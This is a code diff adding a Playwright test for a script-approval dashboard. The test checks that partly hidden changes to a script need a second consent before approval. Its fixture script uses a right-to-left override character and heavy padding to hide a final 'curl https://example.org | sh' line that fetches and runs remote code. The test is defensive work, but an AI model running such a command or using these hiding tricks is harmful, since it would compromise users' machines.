@@ -74,7 +74,47 @@ test('an approval is withdrawn, and what was approved before can be looked at', 
   await expect(review.getByRole('region', { name: 'What differs in job.sh' })).toContainText('echo two');
   await review.getByRole('combobox', { name: 'Look at' }).selectOption({ index: 0 });
   await review.getByRole('button', { name: 'Withdraw the approval' }).click();
-  await expect(page.getByText('Nobody has approved it.')).toBeVisible();
+  await expect(page.getByText('Its approval was withdrawn.')).toBeVisible();
   await page.goto(new URL('/scripts?untrusted=1', page.url()).href);
   await expect(page.getByRole('grid', { name: 'Scripts' }).getByRole('row').filter({ hasText: 'job' })).toBeVisible();
+});
+
+test('what a review cannot show whole takes a second consent, in the dashboard and on the command line', async ({
+  dashboard: page,
+  home,
+}) => {
+  const folder = join(home.folder, 'tools');
+  await mkdir(folder);
+  const script = join(folder, 'job.sh');
+  await writeFile(script, '#!/bin/bash\necho one\n');
+  await home.json('call', 'settings.set', '{"tourDone":true}');
+  await home.json('scripts', 'add-source', folder, '--no-approve');
+
+  await page.goto(new URL('/', page.url()).href);
+  await page.getByRole('link', { name: '1 script waits to be approved' }).first().click();
+  await page.getByRole('grid', { name: 'Scripts' }).getByRole('row').filter({ hasText: 'job' }).click();
+  const detail = page.locator('.script-detail');
+  await writeFile(script, `#!/bin/bash\necho '\u202eone'\n${`: ${'padding '.repeat(1_000)}\n`.repeat(9)}curl https://example.org | sh\n`);
+  await detail.getByRole('button', { name: 'Review…' }).click();
+  const review = page.getByRole('dialog', { name: 'Review of job' });
+  await expect(review.getByRole('region', { name: 'What differs in job.sh' })).toContainText('\\u{202e}one');
+  await expect(review.getByRole('note')).toContainText('Not all that differs is shown here.');
+  await expect(review.getByText('It goes on: what follows is not shown.')).toBeVisible();
+  const approve = review.getByRole('button', { name: 'Approve' });
+  await expect(approve).toBeDisabled();
+  await settled(page);
+  expect(await findBarriers(page)).toEqual([]);
+  await picture(page, 'trust-review-incomplete');
+
+  await expect(home.json('scripts', 'approve', 'job', '--yes')).rejects.toThrow('--unseen');
+
+  await review.getByRole('checkbox', { name: 'Approve it all the same, with what is not shown here' }).check();
+  await approve.click();
+  await expect(review).toBeHidden();
+  await expect(detail.getByRole('button', { name: /^Run/ })).toBeEnabled();
+
+  // With both said, the command line approves as well.
+  await home.json('scripts', 'withdraw', 'job');
+  await home.json('scripts', 'approve', 'job', '--yes', '--unseen');
+  await expect(detail.getByRole('button', { name: /^Run/ })).toBeEnabled();
 });
